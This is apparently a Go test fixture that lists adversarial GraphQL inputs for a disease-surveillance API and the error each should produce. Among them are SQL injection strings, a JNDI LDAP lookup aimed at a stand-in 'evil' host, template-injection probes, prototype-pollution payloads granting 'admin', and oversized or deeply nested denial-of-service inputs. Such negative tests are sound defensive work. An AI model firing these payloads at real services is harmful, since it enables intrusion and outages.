package hostile

import (
	"strings"

	"github.com/mspr/surveillance/mspr"
)

// Values are of the wrong type, too large, or meant for something else
// than GraphQL.
func Values() map[string]Attack {
	const (
		search  = `query($s: String) { locations(search: $s) { totalCount } }`
		filter  = `query($w: RecordFilter) { covidRecords(where: $w) { nodes { date } } }`
		first   = `query($n: Int) { locations(first: $n) { totalCount } }`
		dims    = `query($g: [Dimension!]!) { aggregate(disease: "mpox", groupBy: $g) { nodes { cases } } }`
		signIn  = `mutation($e: String!, $p: String!) { login(email: $e, password: $p) { step } }`
		withhut = `query($h: Boolean!) { cluster { id @skip(if: $h) name } }`
	)
	deep := strings.Repeat(`{"and":[`, 200) + `{}` + strings.Repeat(`]}`, 200)
	return map[string]Attack{
		"one long string":              document(`{ locations(search: "`+strings.Repeat("x", 200_000)+`") { totalCount } }`, mspr.BadUserInput),
		"one long block string":        document(`{ locations(search: """`+strings.Repeat("x\n", 80_000)+`""") { totalCount } }`, mspr.BadUserInput),
		"one long number":              document(`{ locations(first: `+strings.Repeat("9", 200_000)+`) { totalCount } }`, mspr.BadUserInput),
		"one long fraction":            document(`{ locations(first: 0.`+strings.Repeat("9", 200_000)+`) { totalCount } }`, mspr.BadUserInput),
		"an enormous exponent":         document(`{ aggregate(disease: "mpox", groupBy: [], having: {cases: {gt: 1e999999999}}) { nodes { cases } } }`, mspr.BadUserInput).as(mspr.Researcher),
		"a large page":                 document(`{ locations(first: 2147483647) { totalCount } }`, mspr.BadUserInput),
		"a page beyond 32 bits":        document(`{ locations(first: 99999999999) { totalCount } }`, mspr.BadUserInput),
		"a page below nothing":         document(`{ locations(first: -1) { totalCount } }`, mspr.BadUserInput),
		"a page of null":               document(`{ locations(first: null) { totalCount } }`, ""),
		"a list of 900":                document(`{ covidRecords(where: {location: {in: [`+strings.Repeat(`"FRA" `, 900)+`]}}) { nodes { date } } }`, ""),
		"an enum for a string":         document(`{ locations(search: hunter2_) { totalCount } }`, mspr.BadUserInput),
		"a string for an enum":         document(`{ locations(level: "`+Secret+`") { totalCount } }`, mspr.BadUserInput),
		"an object for a string":       document(`{ locations(search: {a: "`+Secret+`"}) { totalCount } }`, mspr.BadUserInput),
		"a list for a string":          document(`{ locations(search: ["`+Secret+`"]) { totalCount } }`, mspr.BadUserInput),
		"a string for a number":        document(`{ locations(first: "`+Secret+`") { totalCount } }`, mspr.BadUserInput),
		"a string for a filter":        document(`{ covidRecords(where: "`+Secret+`") { nodes { date } } }`, mspr.BadUserInput),
		"an unknown argument":          document(`{ locations(sql: "`+Secret+`") { totalCount } }`, mspr.BadUserInput),
		"one argument twice":           document(`{ locations(first: 1, first: 2) { totalCount } }`, mspr.BadUserInput),
		"300 unknown fields of inputs": document(`{ covidRecords(where: {`+Numbered(300, `w%d:1 `)+`}) { nodes { date } } }`, mspr.BadUserInput),
		"NUL in a code":                document(`{ summary(disease: "covid19\u0000") { cases } }`, mspr.BadUserInput),
		"NUL in a search":              document(`{ locations(search: "a\u0000b") { totalCount } }`, ""),
		"NUL in a cursor":              document(`{ locations(after: "a\u0000b") { totalCount } }`, mspr.BadUserInput),
		"SQL in a code":                document(`{ summary(disease: "`+SQL+`") { cases } }`, mspr.BadUserInput),
		"SQL in a place":               document(`{ summary(disease: "covid19", location: "`+SQL+`") { cases } }`, mspr.BadUserInput),
		"SQL in a date":                document(`{ timeSeries(disease: "covid19", locations: ["FRA"], from: "`+SQL+`") { points { cases } } }`, mspr.BadUserInput),
		"SQL in a moment":              document(`{ summary(disease: "covid19", asOf: "`+SQL+`") { cases } }`, mspr.BadUserInput),
		"SQL in a search":              document(`{ locations(search: "`+SQL+`") { totalCount } }`, ""),
		"SQL in a cursor":              document(`{ locations(after: "`+SQL+`") { totalCount } }`, mspr.BadUserInput),
		"SQL in a language":            document(`{ cluster { country { name(language: "`+SQL+`") } } }`, mspr.BadUserInput),
		"a template":                   document(`{ locations(search: "${jndi:ldap://evil/}{{7*7}}<%= 7 %>") { totalCount } }`, ""),
		"variables that are no object": with(search, `[1]`, mspr.BadUserInput).of(400),
		"variables in a string":        with(search, `"{}"`, mspr.BadUserInput).of(400),
		"variables of no JSON":         with(search, `{"s":}`, mspr.BadUserInput).of(400),
		"a variable that isn't":        with(`{ locations(search: $hunter) { totalCount } }`, `{}`, mspr.BadUserInput),
		"a variable nobody declares":   with(search, `{"t":"`+Secret+`"}`, ""),
		"a variable nobody uses":       with(`query($u: String) { cluster { id } }`, `{"u":"`+Secret+`"}`, mspr.BadUserInput),
		"one variable twice":           with(`query($s: String, $s: Int) { locations(search: $s) { totalCount } }`, `{}`, mspr.BadUserInput),
		"a variable of no type":        with(`query($s: Secret) { locations(search: $s) { totalCount } }`, `{}`, mspr.BadUserInput),
		"a variable of an output type": with(`query($s: Cluster) { locations(search: $s) { totalCount } }`, `{}`, mspr.BadUserInput),
		"a variable of another type":   with(`query($s: Int) { locations(search: $s) { totalCount } }`, `{"s":1}`, mspr.BadUserInput),
		"a default of another type":    with(`query($s: String = 5) { locations(search: $s) { totalCount } }`, `{}`, mspr.BadUserInput),
		"a null where none is":         with(signIn, `{"e":null,"p":"`+Secret+`"}`, mspr.BadUserInput),
		"a password that is a list":    with(signIn, `{"e":"a@b.c","p":["`+Secret+`"]}`, mspr.BadUserInput),
		"a password that is an object": with(signIn, `{"e":"a@b.c","p":{"`+Secret+`":1}}`, mspr.BadUserInput),
		"a password for a number":      with(first, `{"n":"`+Secret+`"}`, mspr.BadUserInput),
		"a fraction for a number":      with(first, `{"n":1.5}`, mspr.BadUserInput),
		"a huge number":                with(first, `{"n":1e400}`, mspr.BadUserInput),
		"a truth for a number":         with(first, `{"n":true}`, mspr.BadUserInput),
		"an object for a number":       with(first, `{"n":{"`+Secret+`":1}}`, mspr.BadUserInput),
		"a word for a truth":           with(withhut, `{"h":"true"}`, mspr.BadUserInput),
		"a number for an enum":         with(dims, `{"g":[5]}`, mspr.BadUserInput).as(mspr.Researcher),
		"SQL for an enum":              with(dims, `{"g":["`+SQL+`"]}`, mspr.BadUserInput).as(mspr.Researcher),
		"an object for an enum":        with(dims, `{"g":[{"`+Secret+`":1}]}`, mspr.BadUserInput).as(mspr.Researcher),
		"a null in a list":             with(dims, `{"g":[null]}`, mspr.BadUserInput).as(mspr.Researcher),
		"a list in a list":             with(dims, `{"g":[["DAY"]]}`, mspr.BadUserInput).as(mspr.Researcher),
		"a filter that is a list":      with(filter, `{"w":[{}]}`, mspr.BadUserInput),
		"SQL as a key of a filter":     with(filter, `{"w":{"`+SQL+`":1}}`, mspr.BadUserInput),
		"__proto__ in a filter":        with(filter, `{"w":{"__proto__":{"admin":true}}}`, mspr.BadUserInput),
		"constructor in a filter":      with(filter, `{"w":{"constructor":{"prototype":{"admin":true}}}}`, mspr.BadUserInput),
		"__typename in a filter":       with(filter, `{"w":{"__typename":"`+Secret+`"}}`, ""),
		"a deep filter":                with(filter, `{"w":`+deep+`}`, mspr.TooComplex).of(400),
		"a deep list":                  with(filter, `{"w":`+strings.Repeat("[", 9000)+strings.Repeat("]", 9000)+`}`, mspr.TooComplex).of(400),
		"too deep for JSON":            with(filter, `{"w":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)+`}`, mspr.BadUserInput).of(400),
		"50,000 values":                with(filter, `{"w":{"location":{"in":[`+strings.Repeat(`"A",`, 50_000)+`"A"]}}}`, mspr.TooComplex).of(400),
		"50,000 variables":             with(search, `{`+Numbered(19_000, `"v%d":1,`)+`"s":"a"}`, mspr.TooComplex).of(400),
		"one long value":               with(search, `{"s":"`+strings.Repeat("x", 200_000)+`"}`, mspr.BadUserInput),
		"NUL in a variable":            with(search, `{"s":"\u0000"}`, ""),
		"a lone surrogate":             with(search, `{"s":"\ud800"}`, ""),
		"a text to the right":          with(search, `{"s":"\u202e"}`, ""),
		"an ID that is none":           with(`mutation($i: Int64!) { disableAccount(id: $i, reason: "r") { id } }`, `{"i":"1 OR 1=1 `+Secret+`"}`, mspr.BadUserInput).as(mspr.Admin),
		"an ID beyond 64 bits":         with(`mutation($i: Int64!) { disableAccount(id: $i, reason: "r") { id } }`, `{"i":99999999999999999999}`, mspr.BadUserInput).as(mspr.Admin),
		"an ID that is a fraction":     with(`mutation($i: Int64!) { disableAccount(id: $i, reason: "r") { id } }`, `{"i":1.0000001}`, mspr.BadUserInput).as(mspr.Admin),
		"a role that is none":          with(`mutation($i: NewAccount!) { createAccount(input: $i) { password } }`, `{"i":{"email":"a@b.c","role":"ROOT"}}`, mspr.BadUserInput).as(mspr.Admin),
		"more than an account has":     with(`mutation($i: NewAccount!) { createAccount(input: $i) { password } }`, `{"i":{"email":"a@b.c","role":"ADMIN","id":1}}`, mspr.BadUserInput).as(mspr.Admin),
	}
}

// of is the same Attack with another status.
func (a Attack) of(status int) Attack {
	a.Status = status
	return a
}
